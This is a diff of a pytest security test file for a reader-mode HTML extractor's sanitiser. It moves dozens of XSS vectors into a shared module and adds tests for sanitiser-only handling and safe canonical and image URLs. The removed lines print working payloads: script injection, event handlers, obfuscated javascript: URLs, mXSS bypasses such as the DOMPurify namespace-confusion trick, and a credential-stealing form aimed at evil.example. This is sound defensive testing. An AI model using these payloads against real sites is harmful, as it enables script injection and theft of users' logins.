@@ -8,6 +8,8 @@ and attribute, so a vector cannot slip through by being spelled differently.
 
 from __future__ import annotations
 
+import html
+
 import pytest
 from extract_support import (
     ARTICLE_PARAGRAPHS,
@@ -18,105 +20,15 @@ from extract_support import (
     unsafe_html_findings,
 )
 from readmode.extract import Article
+from readmode.extract.sanitize import sanitize
+from xss_vectors import BODY_VECTORS, HEAD_VECTORS, URL_VECTORS
 
 SECONDS = 2.0
 
-# (id, markup) placed in the article body, between its second and third paragraphs.
-BODY_VECTORS: list[tuple[str, str]] = [
-    ("script", "<script>alert(1)</script>"),
-    ("script-src", '<script src="https://evil.example/x.js"></script>'),
-    ("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
-    ("img-onerror", "<img src=x onerror=alert(1)>"),
-    ("img-onerror-unterminated", "<p>Photo: <img src=x onerror=alert(1)// </p>"),
-    ("p-onclick", '<p onclick="alert(1)" onmouseover="alert(2)">A paragraph with handlers.</p>'),
-    ("body-onload", "<body onload=alert(1)>"),
-    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>More</summary>x</details>"),
-    ("marquee-onstart", "<marquee onstart=alert(1)>news</marquee>"),
-    ("a-javascript", '<p><a href="javascript:alert(1)">a link</a></p>'),
-    ("a-javascript-mixed-case", '<p><a href="  JaVaScRiPt:alert(1)">a link</a></p>'),
-    ("a-javascript-tab-entity", '<p><a href="jav&#x09;ascript:alert(1)">a link</a></p>'),
-    ("a-javascript-newline", '<p><a href="java\nscript:alert(1)">a link</a></p>'),
-    (
-        "a-javascript-decimal-entities",
-        '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'
-        "a link</a></p>",
-    ),
-    ("a-javascript-padded-entity", '<p><a href="java&#0000115;cript:alert(1)">a link</a></p>'),
-    ("a-vbscript", '<p><a href="vbscript:msgbox(1)">a link</a></p>'),
-    ("a-data-html", '<p><a href="data:text/html,<script>alert(1)</script>">a link</a></p>'),
-    (
-        "a-data-html-base64",
-        '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a link</a></p>',
-    ),
-    ("a-ping", '<p><a href="https://example.org/" ping="javascript:alert(1)">a link</a></p>'),
-    ("img-src-javascript", "<img src=\"javascript:alert('XSS')\" alt=x>"),
-    ("img-src-javascript-bare", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
-    ("img-srcset-javascript", '<img src="/a.jpg" srcset="javascript:alert(1) 1x, /b.jpg 2x">'),
-    ("img-data-src-javascript", '<img class="lazyload" data-src="javascript:alert(1)">'),
-    ("video-poster", "<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video>"),
-    ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
-    ("table-background", '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>'),
-    ("button-formaction", '<form><button formaction="javascript:alert(1)">Go</button></form>'),
-    ("input-formaction", '<input type="submit" formaction="javascript:alert(1)" value="Go">'),
-    ("input-image-onerror", "<input type=image src=x onerror=alert(1)>"),
-    ("form-steal", '<form action="https://evil.example/steal"><input type=password></form>'),
-    ("form-outside-button", "<form id=f></form><button form=f formaction=javascript:alert(1)>X"),
-    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
-    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
-    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
-    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
-    ("frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
-    ("object-javascript", '<object data="javascript:alert(1)"></object>'),
-    ("object-data-html", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
-    # <embed> is a void element, but libxml2 parses what follows it as its children: dropping
-    # the element must not drop the rest of the article with it.
-    ("embed", '<embed src="https://evil.example/x.swf">'),
-    ("applet", '<applet code="Evil.class" codebase="https://evil.example/"></applet>'),
-    ("style-element", "<style>body { display: none } p { color: red }</style>"),
-    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
-    ("link-in-body", '<link rel="stylesheet" href="https://evil.example/x.css">'),
-    ("meta-refresh-in-body", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
-    ("base-in-body", '<base href="https://evil.example/">'),
-    ("style-attr-javascript-url", '<p style="background:url(javascript:alert(1))">Styled.</p>'),
-    ("style-attr-expression", '<p style="width: expression(alert(1))">Styled.</p>'),
-    ("style-attr-behavior", '<p style="behavior: url(x.htc); -moz-binding: url(x)">Styled.</p>'),
-    ("style-attr-hide", '<p style="position:fixed;inset:0;z-index:9999">Overlay.</p>'),
-    ("svg-onload", '<svg onload="alert(1)"><circle r="10"/></svg>'),
-    ("svg-script", "<svg><script>alert(1)</script></svg>"),
-    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>'),
-    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
-    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/>x</a></svg>'),
-    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
-    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
-    (
-        "math-maction",
-        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
-        "</math>",
-    ),
-    (  # the DOMPurify 2.0.17 namespace-confusion bypass
-        "math-mglyph-mxss",
-        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
-        '&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;"></mglyph></table></mtext></math>',
-    ),
-    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
-    ("template", "<template><img src=x onerror=alert(1)></template>"),
-    ("textarea-mxss", "<textarea><img src=x onerror=alert(1)></textarea>"),
-    ("title-in-body-mxss", "<title><img src=x onerror=alert(1)></title>"),
-    ("xmp-mxss", "<xmp><img src=x onerror=alert(1)></xmp>"),
-    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
-    ("dialog", "<dialog open onclose=alert(1)>Dialog</dialog>"),
-    ("select-option", "<select onfocus=alert(1) autofocus><option>One</option></select>"),
-]
-
-# (id, markup) placed in the page's <head>.
-HEAD_VECTORS: list[tuple[str, str]] = [
-    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
-    ("base-javascript", '<base href="javascript:alert(1)//">'),
-    ("base-hijack", '<base href="https://evil.example/">'),
-    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
-    ("head-script", "<script>document.write('<p>injected</p>')</script>"),
-    ("head-style", "<style>p { display: none }</style>"),
-]
+# The shared table (tests/xss_vectors.py), rendered with its default payload, ``alert(1)``.
+# BODY: placed between the article's second and third paragraphs; HEAD: in the page's <head>.
+BODY_MARKUP = {vector.id: vector.render() for vector in BODY_VECTORS}
+HEAD_MARKUP = {vector.id: vector.render() for vector in HEAD_VECTORS}
 
 
 def assert_paragraphs_kept(result: object) -> Article:
@@ -127,17 +39,45 @@ def assert_paragraphs_kept(result: object) -> Article:
     return result
 
 
+@pytest.mark.parametrize("markup", list(BODY_MARKUP.values()), ids=list(BODY_MARKUP))
+def test_sanitiser_alone_neutralises_body_vector(markup: str) -> None:
+    """The reader view sanitises stored HTML again before showing it (HTML from an import
+    file never went through the extractor), so the sanitiser must hold on its own, without
+    the extractor's earlier steps (lazy images, URL resolution, srcset filtering)."""
+    assert_safe_html(sanitize(markup))
+
+
+@pytest.mark.parametrize("source", ["link-canonical", "og-url"])
+@pytest.mark.parametrize(
+    "url", [vector.render() for vector in URL_VECTORS], ids=[vector.id for vector in URL_VECTORS]
+)
+def test_script_urls_never_become_canonical_url_or_lead_image(source: str, url: str) -> None:
+    """canonical_url ("View original") and lead_image_url come from the page's markup: only
+    web addresses may come out (a javascript: or data: URL would be a live link)."""
+    value = html.escape(url, quote=True)
+    canonical = (
+        f'<link rel="canonical" href="{value}">'
+        if source == "link-canonical"
+        else f'<meta property="og:url" content="{value}">'
+    )
+    page = readable_page(head_extra=f'{canonical}<meta property="og:image" content="{value}">')
+    article = extract_within_url(page, "https://islandferry.example/news/winter")
+    for name in ("url", "lead_image_url"):
+        found = getattr(article, name)
+        assert found is None or found.startswith(("http://", "https://")), (name, found)
+
+
 def test_there_are_enough_vectors() -> None:
     assert len(BODY_VECTORS) + len(HEAD_VECTORS) >= 30
 
 
-@pytest.mark.parametrize("markup", [m for _, m in BODY_VECTORS], ids=[i for i, _ in BODY_VECTORS])
+@pytest.mark.parametrize("markup", list(BODY_MARKUP.values()), ids=list(BODY_MARKUP))
 def test_body_vector_is_neutralised(markup: str) -> None:
     article = assert_paragraphs_kept(extract_within(readable_page(body_extra=markup), SECONDS))
     assert_safe_html(article.content_html)
 
 
-@pytest.mark.parametrize("markup", [m for _, m in HEAD_VECTORS], ids=[i for i, _ in HEAD_VECTORS])
+@pytest.mark.parametrize("markup", list(HEAD_MARKUP.values()), ids=list(HEAD_MARKUP))
 def test_head_vector_is_neutralised(markup: str) -> None:
     article = assert_paragraphs_kept(extract_within(readable_page(head_extra=markup), SECONDS))
     assert_safe_html(article.content_html)
@@ -146,8 +86,8 @@ def test_head_vector_is_neutralised(markup: str) -> None:
 
 def test_every_vector_at_once() -> None:
     page = readable_page(
-        body_extra="\n".join(m for _, m in BODY_VECTORS),
-        head_extra="".join(m for _, m in HEAD_VECTORS),
+        body_extra="\n".join(BODY_MARKUP.values()),
+        head_extra="".join(HEAD_MARKUP.values()),
     )
     article = assert_paragraphs_kept(extract_within(page, SECONDS))
     assert_safe_html(article.content_html)
